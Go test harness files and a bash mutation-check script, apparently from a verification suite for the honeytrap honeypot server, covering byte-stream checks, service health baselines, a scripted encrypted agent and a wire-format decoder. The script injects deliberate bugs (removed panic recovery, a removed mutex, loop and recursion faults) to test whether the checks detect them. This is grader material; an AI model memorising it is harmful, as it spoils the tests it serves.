				return failf("bytes", "connection %d (%s -> %s): %d bytes were sent in its data messages, the service read %d bytes; first difference at offset %d (sent %s, read %s)", m, conns[m].r, conns[m].l, len(exp0), len(got), d, trunc(exp0[d:]), trunc(got[d:]))
			}
			return failf("bytes", "re-used id %s: the byte streams read by the services do not match the data sent per incarnation", conns[root].key)
		}
	}
	// the agent's side: frames it received
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.rerr != nil && !isClosedErr(a.rerr) {
		return failf("undecodable", "the agent could not decode what the listener sent: %v", a.rerr)
	}
	tcp, udp := backBytes()
	known := map[string]bool{}
	for i, st := range conns {
		known[st.planKey] = true
		if !single(i) {
			continue
		}
		if got := tcp[st.planKey]; !bytes.Equal(got, st.back) {
			d := diffAt(got, st.back)
			return failf("back-bytes", "connection %d: the service wrote %d bytes, the agent received %d bytes tagged with its addresses; first difference at offset %d", i, len(st.back), len(got), d)
		}
	}
	for k, b := range tcp {
		if !known[k] && len(b) >= 0 {
			return failf("back-foreign", "the agent received a data frame tagged %s, which is no connection of this session", k)
		}
	}
	for _, m := range udps {
		var wantb []byte
		for _, rp := range m.replies {
			wantb = append(wantb, rp...)
		}
		if !bytes.Equal(udp[m.key], wantb) {
			return failf("udp-back-bytes", "UDP relay %s: the service answered %d bytes, the agent received %d bytes tagged with these addresses", m.key, len(wantb), len(udp[m.key]))
		}
		invs := findInv(m.key)
		if len(invs) != 1 {
			return failf("udp-count", "UDP datagram %s was handed to services %d times", m.key, len(invs))
		}
		if !bytes.Equal(invs[0].data, m.payload) {
			return failf("udp-bytes", "UDP datagram %s: %d bytes relayed, service read %d bytes (first difference at %d)", m.key, len(m.payload), len(invs[0].data), diffAt(invs[0].data, m.payload))
		}
		if want := fmt.Sprintf("u%d", m.l.Port); invs[0].svc != want {
			return failf("wrong-service", "UDP datagram to port %d was handed to service %s", m.l.Port, invs[0].svc)
		}
	}
	for k := range udp {
		found := false
		for _, m := range udps {
			found = found || m.key == k
		}
		if !found {
			return failf("back-foreign", "the agent received a UDP frame tagged %s, which it never relayed", k)
		}
	}
	return nil
}

func isClosedErr(err error) bool {
	s := err.Error()
	return strings.Contains(s, "closed") || strings.Contains(s, "EOF") || strings.Contains(s, "reset")
}

// matchPerm: is there a bijection between expected streams and invocations?
func matchPerm(exp [][]byte, invs []*invocation, same func(got, exp []byte) bool) bool {
	if len(exp) != len(invs) {
		return false
	}
	used := make([]bool, len(invs))
	var rec func(i int) bool
	rec = func(i int) bool {
		if i == len(exp) {
			return true
		}
		for j, inv := range invs {
			if !used[j] && same(inv.data, exp[i]) {
				used[j] = true
				if rec(i + 1) {
					return true
				}
				used[j] = false
			}
		}
		return false
	}
	return rec(0)
}
