package c01

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"time"

	"pgregory.net/rapid"

	"verif/svc"
)

// "keeps serving new connections" is judged per service: after a scenario, well-formed
// dialogues (fixed examples drawn from the service's grammar; and their prefixes; the 4 that a fresh process answers most) are played on NEW connections
// to the services the scenario talked to, and what the server does for them (reply bytes,
// events) is compared with what a freshly started process does for the same dialogues.
// The comparison is deliberately coarse (at least half the bytes / events), because a
// scenario may legitimately change service state (files, keys) that a later reply shows.

type healthRef struct {
	Conn   connCase
	OutLen int
	Events int
}

var (
	healthOnce sync.Once
	healthRefs map[string][]healthRef
	healthErr  error
)

func healthExamples(service string) []connCase {
	var out []connCase
	seen := map[string]bool{}
	for seed := 1; seed <= 24; seed++ {
		c := rapid.Custom(func(t *rapid.T) connCase {
			c, _ := genConn(t, service, "grammar")
			return c
		}).Example(seed)
		c.Seg, c.Cuts, c.End = "units", nil, "close"
		// every prefix of the dialogue is a dialogue of its own: replies that the server
		// pushes asynchronously (vnc frames) are only seen when the client pauses there
		for n := 1; n <= len(c.Units); n++ {
			if c.SSH != nil && n < len(c.Units) {
				continue
			}
			if c.UDP && n > 1 {
				// every datagram is handled by a goroutine of its own and the amplification
				// limiter (4 replies per source) is shared between them: what a source gets
				// for several datagrams depends on the schedule; for one datagram it does not
				break
			}
			p := c
			p.Units = c.Units[:n:n]
			key := fmt.Sprint(p.UDP, p.Units)
			if !seen[key] {
				seen[key] = true
				out = append(out, p)
			}
		}
		if len(c.Units) == 0 {
			out = append(out, c)
		}
	}
	return out
}

func playHealth(c *svc.Child, conns []connCase) ([]svc.ConnReport, error) {
	req := svc.Request{Op: "run", WaitMs: 8000}
	for i, cc := range conns {
		w := cc.wire()
		w.LingerMs = 20
		if cc.Service == "vnc" {
			// frames are pushed by a 30 Hz ticker goroutine, not by the reader
			w.LingerMs = 150
		}
		req.Scripts = append(req.Scripts, w)
		n := len(w.Steps)
		if n == 0 {
			n = 1
		}
		for k := 0; k < n; k++ {
			req.Order = append(req.Order, i)
		}
	}
	resp, err := c.Do(req, 120*time.Second)
	if err != nil {
		return nil, err
	}
	if len(resp.Conns) != len(conns) {
		return nil, fmt.Errorf("infra: %d reports for %d health connections", len(resp.Conns), len(conns))
	}
	return resp.Conns, nil
}

// Reference dialogues are chosen and measured on fresh processes of their own: two processes
// play all candidate dialogues (the second in reverse order, so that a candidate which
// damages the service hides at most the ones on one side of it), the 4 that got the most
// out of the service are kept, and a third fresh process plays only those, twice; the
// smaller observation is the reference.
func healthBaselines() (map[string][]healthRef, error) {
	healthOnce.Do(func() {
		// the shards of one run share the references through the run's scratch directory
		shared := filepath.Join(os.TempDir(), "c01-health.json")
		if os.Getenv("VERIF_SHARDS") != "" {
			if f, err := os.OpenFile(shared+".lock", os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0644); err == nil {
				f.Close()
				defer func() {
					if healthErr == nil {
						b, _ := json.Marshal(healthRefs)
						os.WriteFile(shared+".tmp", b, 0644)
						os.Rename(shared+".tmp", shared)
					} else {
						os.WriteFile(shared+".failed", []byte(healthErr.Error()), 0644)
					}
				}()
			} else {
				for i := 0; i < 3000; i++ {
					if b, err := os.ReadFile(shared); err == nil {
						if json.Unmarshal(b, &healthRefs) == nil {
							return
						}
					}
					if _, err := os.Stat(shared + ".failed"); err == nil {
						break
					}
					time.Sleep(100 * time.Millisecond)
				}
				// the shard that took the lock did not deliver: measure here
			}
		}
		fail := func(s string, err error) { healthErr = fmt.Errorf("infra: health baseline for %s: %v", s, err) }
		best := map[string][]healthRef{}
		for pass := 0; pass < 2; pass++ {
			c, err := svc.StartChild(nil)
			if err != nil {
				fail("start", err)
				return
			}
			for _, s := range svc.AllServices {
				ex := healthExamples(s)
				if pass == 1 {
					for i, j := 0, len(ex)-1; i < j; i, j = i+1, j-1 {
						ex[i], ex[j] = ex[j], ex[i]
					}
				}
				rep, err := playHealth(c, ex)
				if err != nil {
					// the process died or hung on well-formed reference candidates: that is for
					// the generated scenarios to find and attribute; here the service simply gets
					// no references from this pass, on a new process
					c.Stop()
					if c, err = svc.StartChild(nil); err != nil {
						fail("start", err)
						return
					}
					if pass == 0 {
						best[s] = make([]healthRef, len(ex))
					}
					if pass == 1 {
						for i, j := 0, len(ex)-1; i < j; i, j = i+1, j-1 {
							ex[i], ex[j] = ex[j], ex[i]
						}
					}
					for i := range ex {
						best[s][i].Conn = ex[i]
					}
					continue
				}
				if pass == 1 {
					for i, j := 0, len(ex)-1; i < j; i, j = i+1, j-1 {
						ex[i], ex[j] = ex[j], ex[i]
						rep[i], rep[j] = rep[j], rep[i]
					}
				}
				if pass == 0 {
					best[s] = make([]healthRef, len(ex))
				}
				for i := range ex {
					best[s][i].Conn = ex[i]
					best[s][i].OutLen = max(best[s][i].OutLen, rep[i].OutLen+rep[i].ReplyLen)
					best[s][i].Events = max(best[s][i].Events, rep[i].Events)
				}
			}
			c.Stop()
		}
		c, err := svc.StartChild(nil)
		if err != nil {
			fail("start", err)
			return
		}
		defer func() { c.Stop() }()
		healthRefs = map[string][]healthRef{}
		for _, s := range svc.AllServices {
			all := best[s]
			// the dialogues that get the most out of the service say the most about it
			sort.SliceStable(all, func(i, j int) bool {
				if all[i].OutLen != all[j].OutLen {
					return all[i].OutLen > all[j].OutLen
				}
				return all[i].Events > all[j].Events
			})
			if len(all) > 4 {
				all = all[:4]
			}
			conns := make([]connCase, len(all))
			for i := range all {
				conns[i] = all[i].Conn
			}
			a, err := playHealth(c, conns)
			var b []svc.ConnReport
			if err == nil {
				b, err = playHealth(c, conns)
			}
			if err != nil {
				// see above: no references for this service, new process for the others
				c.Stop()
				if c, err = svc.StartChild(nil); err != nil {
					fail("start", err)
					return
				}
				continue
			}
			for i := range conns {
				ref := healthRef{Conn: conns[i], OutLen: min(a[i].OutLen+a[i].ReplyLen, b[i].OutLen+b[i].ReplyLen), Events: min(a[i].Events, b[i].Events)}
				if ref.OutLen > 0 || ref.Events > 0 {
					healthRefs[s] = append(healthRefs[s], ref)
				}
			}
		}
	})
	return healthRefs, healthErr
}

// checkHealth plays the reference dialogues of every service the scenario used.
func checkHealth(c *svc.Child, sc scenario) error {
	refs, err := healthBaselines()
	if err != nil {
		return err
	}
	seen := map[string]bool{}
	for _, cc := range sc.Conns {
		seen[cc.Service] = true
	}
	var names []string
	for s := range seen {
		names = append(names, s)
	}
	sort.Strings(names)
	for _, s := range names {
		rs := refs[s]
		if len(rs) == 0 {
			continue
		}
		conns := make([]connCase, len(rs))
		for i := range rs {
			conns[i] = rs[i].Conn
		}
		rep, err := playHealth(c, conns)
		if err != nil {
			return classify(err, "while serving well-formed "+s+" connections after the scenario")
		}
		for i, r := range rep {
			r.OutLen += r.ReplyLen
			if r.OutLen*2 < rs[i].OutLen || r.Events*2 < rs[i].Events {
				// look twice: the comparison must not depend on one slow moment
				time.Sleep(500 * time.Millisecond)
				rep2, err := playHealth(c, conns[i:i+1])
				if err != nil {
					return classify(err, "while serving well-formed "+s+" connections after the scenario")
				}
				rep2[0].OutLen += rep2[0].ReplyLen
				if r2 := rep2[0]; r2.OutLen*2 < rs[i].OutLen || r2.Events*2 < rs[i].Events {
					return fmt.Errorf("service %s no longer serves new connections as a fresh process does: a well-formed dialogue on a new connection got %d reply bytes and %d events (then %d and %d on a second new connection); a freshly started process gives %d reply bytes and %d events; dialogue units=%v", s, r.OutLen, r.Events, r2.OutLen, r2.Events, rs[i].OutLen, rs[i].Events, rs[i].Conn.Units)
				}
			}
		}
	}
	return nil
}
