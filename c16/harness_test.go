package c16

// Fixture: the real server (server.Honeytrap.Run) with listener type "agent" on a
// loopback TCP port, recording stub services on the ports the virtual connections
// announce, and a scripted agent that speaks the real encrypted transport (libdisco,
// Noise_NK with the server's public key taken from the agent storage).

import (
	"context"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/services"
	"github.com/honeytrap/honeytrap/storage"
	"github.com/mimoo/disco/libdisco"
	logging "github.com/op/go-logging"

	"verif/lab"
)

// ---------------------------------------------------------------- recording service

// invocation is one Handle call of the stub service.
type invocation struct {
	svc     string // configured service name ("t7001", "u5301", ...)
	network string
	local   string
	remote  string

	data    []byte // bytes read
	done    bool   // Handle has finished reading (EOF, error or datagram consumed)
	err     string // read error other than EOF
	pending int    // writes queued and not yet returned
	werr    string // first write error / panic
	cerr    string // what the service's own Close returned / panicked with (recorded, not judged)
	wq      chan wreq
	seq     int64 // global order of Handle entry
}

// wreq is one thing the harness asks the service side of a connection to do, in order:
// write b, or (close) close the connection on its own the way a service that is done
// with its client does.
type wreq struct {
	b     []byte
	close bool
}

// plan is what the harness wants the service to do on a connection it expects.
type plan struct {
	readBuf  int
	delay    time.Duration
	greeting []byte   // written at accept (TCP)
	replies  [][]byte // written after the datagram was read (UDP)
	reuse    bool     // write everything from one buffer, overwritten as soon as Write returns
}

type worldT struct {
	mu    sync.Mutex
	cond  *sync.Cond
	invs  map[string][]*invocation // by the case serial embedded in the remote address
	plans map[string]plan          // by network|local|remote
	seq   int64
}

var world = func() *worldT {
	w := &worldT{invs: map[string][]*invocation{}, plans: map[string]plan{}}
	w.cond = sync.NewCond(&w.mu)
	return w
}()

func connKey(network, local, remote string) string { return network + "|" + local + "|" + remote }

type stubSvc struct {
	Name string `toml:"name"`
}

func (s *stubSvc) SetChannel(pushers.Channel) {}

func init() {
	services.Register("c16-svc", func(options ...services.ServicerFunc) services.Servicer {
		s := &stubSvc{}
		for _, o := range options {
			o(s)
		}
		return s
	})
	logging.SetLevel(logging.CRITICAL, "")
}

func hostOf(hostport string) string {
	h, _, err := net.SplitHostPort(hostport)
	if err != nil {
		return hostport
	}
	return h
}

func (s *stubSvc) Handle(ctx context.Context, conn net.Conn) error {
	inv := &invocation{
		svc:     s.Name,
		network: conn.LocalAddr().Network(),
		local:   conn.LocalAddr().String(),
		remote:  conn.RemoteAddr().String(),
		wq:      make(chan wreq, 256),
	}
	w := world
	w.mu.Lock()
	w.seq++
	inv.seq = w.seq
	p, ok := w.plans[connKey(inv.network, inv.local, inv.remote)]
	owner := serialOf(inv.remote)
	w.invs[owner] = append(w.invs[owner], inv)
	w.cond.Broadcast()
	w.mu.Unlock()
	if !ok {
		p = plan{readBuf: 700}
	}
	if p.readBuf <= 0 {
		p.readBuf = 700
	}
	// A service may reuse its buffer as soon as Write has returned (io.Copy does): in
	// reuse mode every write goes out of the same buffer, which is scribbled over right
	// after Write returns and filled again right before the next Write.
	var shared []byte
	write := func(b []byte) {
		if p.reuse {
			if cap(shared) < len(b) {
				shared = make([]byte, len(b), len(b)+4096)
			}
			shared = shared[:len(b)]
			copy(shared, b)
			b = shared
			defer func() {
				for i := range b {
					b[i] = ^b[i]
				}
			}()
		}
		defer func() {
			if r := recover(); r != nil {
				w.mu.Lock()
				if inv.werr == "" {
					inv.werr = fmt.Sprintf("panic: %v", r)
				}
				w.mu.Unlock()
			}
		}()
		n, err := conn.Write(b)
		if err != nil || n != len(b) {
			w.mu.Lock()
			if inv.werr == "" {
				inv.werr = fmt.Sprintf("Write(%d bytes) = %d, %v", len(b), n, err)
			}
			w.mu.Unlock()
		}
	}
	if inv.network == "udp" {
		buf := make([]byte, 70000)
		n, err := conn.Read(buf)
		w.mu.Lock()
		inv.data = append(inv.data, buf[:n]...)
		if err != nil && err != io.EOF {
			inv.err = err.Error()
		}
		w.mu.Unlock()
		for _, rp := range p.replies {
			write(rp)
		}
		w.mu.Lock()
		inv.done = true
		w.cond.Broadcast()
		w.mu.Unlock()
		return nil
	}
	// the greeting goes out before any queued write is started, so the order of the
	// service's writes is the order in which the harness asked for them
	if len(p.greeting) > 0 {
		write(p.greeting)
	}
	// the service closes the connection itself (server.handle recovers a panic of a
	// service, so does this)
	closeConn := func() {
		defer func() {
			if r := recover(); r != nil {
				w.mu.Lock()
				inv.cerr = fmt.Sprintf("panic: %v", r)
				w.mu.Unlock()
			}
		}()
		if err := conn.Close(); err != nil {
			w.mu.Lock()
			inv.cerr = err.Error()
			w.mu.Unlock()
		}
	}
	quit := make(chan struct{})
	wdone := make(chan struct{})
	go func() {
		defer close(wdone)
		for {
			select {
			case q := <-inv.wq:
				if q.close {
					// not counted in pending: nothing ever waits for it
					closeConn()
					continue
				}
				write(q.b)
				w.mu.Lock()
				inv.pending--
				w.cond.Broadcast()
				w.mu.Unlock()
			case <-quit:
				return
			}
		}
	}()
	if p.delay > 0 {
		time.Sleep(p.delay)
	}
	buf := make([]byte, p.readBuf)
	idle := 0
	for {
		n, err := conn.Read(buf)
		w.mu.Lock()
		inv.data = append(inv.data, buf[:n]...)
		if n > 0 {
			w.cond.Broadcast()
		}
		if err != nil {
			inv.done = true
			if err != io.EOF {
				inv.err = err.Error()
			}
			w.cond.Broadcast()
			w.mu.Unlock()
			break
		}
		w.mu.Unlock()
		if n == 0 {
			// (0, nil) is allowed by io.Reader and means nothing happened
			idle++
			if idle > 1000 {
				time.Sleep(time.Millisecond)
			}
		} else {
			idle = 0
		}
	}
	close(quit)
	<-wdone
	return nil
}

// queueWrite asks the service side of inv to write b (in order with earlier requests).
func (inv *invocation) queueWrite(b []byte) {
	world.mu.Lock()
	inv.pending++
	world.mu.Unlock()
	inv.wq <- wreq{b: b}
}

// queueClose asks the service side of inv to close its connection (after the writes
// requested earlier have returned).
func (inv *invocation) queueClose() {
	select {
	case inv.wq <- wreq{close: true}:
	default: // cannot happen with the harness's bounded number of outstanding requests
	}
}

// waitFor blocks until cond() holds (called with world.mu held) or the timeout expires.
func (w *worldT) waitFor(timeout time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, func() {
		w.mu.Lock()
		w.cond.Broadcast()
		w.mu.Unlock()
	})
	defer t.Stop()
	w.mu.Lock()
	defer w.mu.Unlock()
	for {
		if cond() {
			return true
		}
		if !time.Now().Before(deadline) {
			return false
		}
		w.cond.Wait()
	}
}

// forget drops the records of one case.
func (w *worldT) forget(owner string, keys []string) {
	w.mu.Lock()
	delete(w.invs, owner)
	for _, k := range keys {
		delete(w.plans, k)
	}
	w.mu.Unlock()
}

// ---------------------------------------------------------------- server

var tcpPorts = []int{7001, 7002, 7003, 443, 2, 22, 220, 44, 80, 808, 8080, 1, 11}
var udpPorts = []int{5301, 53}

type fixture struct {
	addr string
	pub  []byte
	srv  *lab.Server
}

var (
	fixOnce sync.Once
	fix     *fixture
	fixErr  error
)

func serverTOML(listen string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"agent\"\nlisten=%q\n\n", listen)
	for _, p := range tcpPorts {
		fmt.Fprintf(&b, "[service.t%d]\ntype=\"c16-svc\"\nname=\"t%d\"\n\n", p, p)
	}
	for _, p := range udpPorts {
		fmt.Fprintf(&b, "[service.u%d]\ntype=\"c16-svc\"\nname=\"u%d\"\n\n", p, p)
	}
	for _, p := range tcpPorts {
		fmt.Fprintf(&b, "[[port]]\nport=\"tcp/%d\"\nservices=[\"t%d\"]\n\n", p, p)
	}
	for _, p := range udpPorts {
		fmt.Fprintf(&b, "[[port]]\nport=\"udp/%d\"\nservices=[\"u%d\"]\n\n", p, p)
	}
	return b.String()
}

// getFixture starts (once per test process) the real server with the agent listener.
func getFixture() (*fixture, error) {
	fixOnce.Do(func() {
		dir, err := lab.DataDir()
		if err != nil {
			fixErr = err
			return
		}
		storage.SetDataDir(dir)
		for attempt := 0; attempt < 5; attempt++ {
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				fixErr = err
				return
			}
			listen := l.Addr().String()
			l.Close()
			srv, err := lab.StartSocket(lab.NextID(), serverTOML(listen))
			if err != nil {
				fixErr = err
				return
			}
			ok := false
			for i := 0; i < 400; i++ {
				c, err := net.DialTimeout("tcp", listen, time.Second)
				if err == nil {
					c.Close()
					ok = true
					break
				}
				time.Sleep(25 * time.Millisecond)
			}
			if !ok {
				srv.Stop()
				fixErr = fmt.Errorf("agent listener on %s did not come up", listen)
				continue
			}
			ns, err := storage.Namespace("agent")
			if err != nil {
				fixErr = err
				return
			}
			key, err := ns.Get("key")
			if err != nil || len(key) != 128 {
				fixErr = fmt.Errorf("agent storage has no server key: %v (len %d)", err, len(key))
				return
			}
			pub, err := hex.DecodeString(string(key[64:]))
			if err != nil {
				fixErr = err
				return
			}
			cand := &fixture{addr: listen, pub: pub, srv: srv}
			// make sure it is this process's listener that answers on the port (another
			// shard may have taken it between the probe and the bind)
			if err := trialSession(cand); err != nil {
				fixErr = fmt.Errorf("listener on %s does not complete a session handshake with this process's server key: %v", listen, err)
				srv.Stop()
				continue
			}
			fix, fixErr = cand, nil
			return
		}
	})
	return fix, fixErr
}

func trialSession(f *fixture) error {
	a, err := dialAgent(f)
	if err != nil {
		return err
	}
	defer a.c.Close()
	a.c.SetDeadline(time.Now().Add(10 * time.Second))
	a.write(encodeFrame(frame{Type: tHandshake, Version: 1, Strs: []string{"trial", "", "", "trial"}}))
	if a.werr != nil {
		return a.werr
	}
	resp, err := readFrame(saneReader{a.c})
	if err != nil {
		return err
	}
	if resp.Type != tHSResp {
		return fmt.Errorf("frame type %d instead of a handshake response", resp.Type)
	}
	return nil
}

// ---------------------------------------------------------------- scripted agent

type scriptedAgent struct {
	c   *libdisco.Conn
	tcp *net.TCPConn

	mu     sync.Mutex
	cond   *sync.Cond
	frames []frame
	rerr   error
	rdone  bool
	paused bool // the agent does not take what the listener sends (a slow agent)

	seg    string // frame3 | frame1 | chunks
	chunks []int
	ci     int
	wbuf   []byte
	werr   error
}

func dialAgent(f *fixture) (*scriptedAgent, error) { return dialAgentOpt(f, false) }

// dialAgentOpt: a remote agent is an agent behind an ordinary network path - 1460-byte
// segments and a modest receive buffer instead of loopback's 64 KiB segments and
// megabytes of buffering - so that an agent that stops reading brings the listener's
// sender to a halt after some hundred kilobytes rather than several megabytes.
func dialAgentOpt(f *fixture, remote bool) (*scriptedAgent, error) {
	cfg := libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: f.pub}
	d := net.Dialer{Timeout: 10 * time.Second}
	if remote {
		d.Control = func(network, address string, rc syscall.RawConn) error {
			return rc.Control(func(fd uintptr) {
				// best effort: without them the session is the same, only the window costs more
				syscall.SetsockoptInt(int(fd), syscall.IPPROTO_TCP, syscall.TCP_MAXSEG, 1460)
				syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 65536)
			})
		}
	}
	tc, err := d.Dial("tcp", f.addr)
	if err != nil {
		return nil, err
	}
	c := libdisco.Client(tc, &cfg) // the handshake runs with the first write
	a := &scriptedAgent{c: c, tcp: tc.(*net.TCPConn), seg: "frame1"}
	a.cond = sync.NewCond(&a.mu)
	return a, nil
}

// saneReader hides a quirk of libdisco's Conn.Read, which reports byte counts together
// with fatal errors (and counts that include the record header): on error nothing was
// delivered.
type saneReader struct{ c *libdisco.Conn }

func (s saneReader) Read(b []byte) (int, error) {
	n, err := s.c.Read(b)
	if err != nil {
		return 0, err
	}
	return n, nil
}

// gatedReader is the agent's receiving side: while the agent is paused it does not read
// from the transport, so the listener's frames pile up in the socket buffers and then
// in the listener.
type gatedReader struct{ a *scriptedAgent }

func (g gatedReader) Read(b []byte) (int, error) {
	g.a.mu.Lock()
	for g.a.paused {
		g.a.cond.Wait()
	}
	g.a.mu.Unlock()
	return saneReader{g.a.c}.Read(b)
}

func (a *scriptedAgent) setPaused(v bool) {
	a.mu.Lock()
	a.paused = v
	a.cond.Broadcast()
	a.mu.Unlock()
}

func (a *scriptedAgent) readLoop() {
	for {
		f, err := readFrame(gatedReader{a})
		a.mu.Lock()
		if err != nil {
			a.rerr = err
			a.rdone = true
			a.cond.Broadcast()
			a.mu.Unlock()
			return
		}
		a.frames = append(a.frames, f)
		a.cond.Broadcast()
		a.mu.Unlock()
	}
}

func (a *scriptedAgent) write(b []byte) {
	if a.werr != nil || len(b) == 0 {
		return
	}
	a.c.SetWriteDeadline(time.Now().Add(20 * time.Second))
	if _, err := a.c.Write(b); err != nil {
		a.werr = err
	}
}

// send transmits one frame under the session's record segmentation.
func (a *scriptedAgent) send(f frame) {
	raw := encodeFrame(f)
	switch a.seg {
	case "frame3": // the way the real agent writes: type, size, body
		a.write(raw[:1])
		a.write(raw[1:3])
		a.write(raw[3:])
	case "chunks":
		a.wbuf = append(a.wbuf, raw...)
		for len(a.chunks) > 0 {
			n := a.chunks[a.ci%len(a.chunks)]
			if n > len(a.wbuf) {
				break
			}
			a.write(a.wbuf[:n])
			a.wbuf = a.wbuf[n:]
			a.ci++
		}
	default:
		a.write(raw)
	}
}

// flush pushes out what the chunk plan is still holding back.
func (a *scriptedAgent) flush() {
	if len(a.wbuf) > 0 {
		a.write(a.wbuf)
		a.wbuf = nil
	}
}

func (a *scriptedAgent) waitFor(timeout time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, func() {
		a.mu.Lock()
		a.cond.Broadcast()
		a.mu.Unlock()
	})
	defer t.Stop()
	a.mu.Lock()
	defer a.mu.Unlock()
	for {
		if cond() {
			return true
		}
		if !time.Now().Before(deadline) {
			return false
		}
		a.cond.Wait()
	}
}

var caseSerial int64

func nextSerial() int { return int(atomic.AddInt64(&caseSerial, 1)) }
