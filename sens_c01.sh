#!/bin/bash
cd /verif
echo "== ftp ChangeDir recursion"; ./mutcheck.sh C01 services/ftp/ftpfs.go 'return ftp.Htfs.ChangeDir(path)' 'return ftp.ChangeDir(path)'
echo "== ssh env loop"; ./mutcheck.sh C01 services/ssh/ssh-simulator.go 'if decoder.LastError() != nil {' 'if false {'
echo "== vnc recover"; ./mutcheck.sh C01 services/vnc/rfb.go 'if e := recover(); e != nil {
			log.Debugf("Client disconnect: %v", e)
			c.c.Close()' 'if e := error(nil); e != nil {
			log.Debugf("Client disconnect: %v", e)
			c.c.Close()'
echo "== server.handle recover removed"; ./mutcheck.sh C01 server/honeytrap.go '	defer func() {
		if r := recover(); r != nil {
			message := event.Message("%+v", r)' '	defer func() {
		if r := error(nil); r != nil {
			message := event.Message("%+v", r)'
echo "== ipp endtag loop"; ./mutcheck.sh C01 services/ipp/message.go 'if err := dec.LastError(); err != nil {
			// ran out of data' 'if err := dec.LastError(); err != nil && false {
			// ran out of data'
echo "== tftp mutex removed"; ./mutcheck.sh C01 services/tftp.go '		s.mu.Lock()
		s.buffers[addr] = &tftpFile{filename: filename, mode: mode}
		s.mu.Unlock()' '		s.buffers[addr] = &tftpFile{filename: filename, mode: mode}'
