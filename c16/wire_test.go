package c16

// Reference implementation of the agent wire format, written from the format
// description (type-length-value frames, little-endian 16-bit lengths, addresses as
// protocol byte + length-prefixed IP + port). It shares no code with listener/agent:
// the scripted agent encodes and decodes with it, so the session test also checks that
// an independent peer and the listener agree on every frame.

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
)

const (
	tHello     = 0x00
	tRWTCP     = 0x01
	tHandshake = 0x02
	tHSResp    = 0x03
	tEOF       = 0x04
	tPing      = 0x05
	tRWUDP     = 0x06
)

// addr is the harness's own address value.
type addr struct {
	UDP  bool   `json:"udp,omitempty"`
	IP   []byte `json:"ip"` // 4 or 16 bytes
	Port int    `json:"port"`
}

func (a addr) netAddr() net.Addr {
	if a.UDP {
		return &net.UDPAddr{IP: net.IP(a.IP), Port: a.Port}
	}
	return &net.TCPAddr{IP: net.IP(a.IP), Port: a.Port}
}

// String renders the address the way Go renders TCP/UDP addresses (host:port with
// brackets for IPv6); written out here so that the expectation does not depend on
// what the listener does with the address.
func (a addr) String() string {
	return net.JoinHostPort(net.IP(a.IP).String(), fmt.Sprint(a.Port))
}

func (a addr) key() string {
	p := "tcp"
	if a.UDP {
		p = "udp"
	}
	return p + "/" + a.String()
}

func putU16(b []byte, v int) []byte {
	return append(b, byte(v), byte(v>>8))
}

func putAddr(b []byte, a addr) []byte {
	if a.UDP {
		b = append(b, 17)
	} else {
		b = append(b, 6)
	}
	b = putU16(b, len(a.IP))
	b = append(b, a.IP...)
	return putU16(b, a.Port)
}

func putData(b []byte, d []byte) []byte {
	b = putU16(b, len(d))
	return append(b, d...)
}

// frame is one decoded protocol message.
type frame struct {
	Type    int
	L, R    addr
	Payload []byte
	Addrs   []addr // handshake response
	Strs    []string
	Version int
}

func encodeBody(f frame) []byte {
	var b []byte
	switch f.Type {
	case tHello, tEOF:
		b = putAddr(b, f.L)
		b = putAddr(b, f.R)
	case tRWTCP, tRWUDP:
		b = putAddr(b, f.L)
		b = putAddr(b, f.R)
		b = putData(b, f.Payload)
	case tHandshake:
		b = putU16(b, f.Version)
		for _, s := range f.Strs {
			b = putData(b, []byte(s))
		}
	case tHSResp:
		b = append(b, byte(len(f.Addrs)))
		for _, a := range f.Addrs {
			b = putAddr(b, a)
		}
	case tPing:
	}
	return b
}

// encodeFrame returns type | len16 | body.
func encodeFrame(f frame) []byte {
	body := encodeBody(f)
	if len(body) > 0xffff {
		panic("frame body too long for the 16-bit size field")
	}
	out := []byte{byte(f.Type)}
	out = putU16(out, len(body))
	return append(out, body...)
}

type cursor struct {
	b   []byte
	off int
	err error
}

func (c *cursor) take(n int) []byte {
	if c.err != nil {
		return nil
	}
	if c.off+n > len(c.b) {
		c.err = fmt.Errorf("body truncated: need %d bytes at offset %d of %d", n, c.off, len(c.b))
		return nil
	}
	v := c.b[c.off : c.off+n]
	c.off += n
	return v
}

func (c *cursor) u8() int {
	v := c.take(1)
	if v == nil {
		return 0
	}
	return int(v[0])
}

func (c *cursor) u16() int {
	v := c.take(2)
	if v == nil {
		return 0
	}
	return int(binary.LittleEndian.Uint16(v))
}

func (c *cursor) data() []byte {
	n := c.u16()
	return append([]byte(nil), c.take(n)...)
}

func (c *cursor) addr() addr {
	p := c.u8()
	ip := c.data()
	port := c.u16()
	if c.err == nil && p != 6 && p != 17 {
		c.err = fmt.Errorf("address with protocol byte %d", p)
	}
	return addr{UDP: p == 17, IP: ip, Port: port}
}

func decodeBody(typ int, body []byte) (frame, error) {
	c := &cursor{b: body}
	f := frame{Type: typ}
	switch typ {
	case tHello, tEOF:
		f.L = c.addr()
		f.R = c.addr()
	case tRWTCP, tRWUDP:
		f.L = c.addr()
		f.R = c.addr()
		f.Payload = c.data()
	case tHandshake:
		f.Version = c.u16()
		for i := 0; i < 4; i++ {
			f.Strs = append(f.Strs, string(c.data()))
		}
	case tHSResp:
		n := c.u8()
		for i := 0; i < n; i++ {
			f.Addrs = append(f.Addrs, c.addr())
		}
	case tPing:
	default:
		return f, fmt.Errorf("unknown frame type %d", typ)
	}
	if c.err != nil {
		return f, c.err
	}
	if c.off != len(body) {
		return f, fmt.Errorf("frame type %d: %d trailing bytes after the message", typ, len(body)-c.off)
	}
	return f, nil
}

// readFrame reads one frame from a byte stream.
func readFrame(r io.Reader) (frame, error) {
	var hdr [3]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
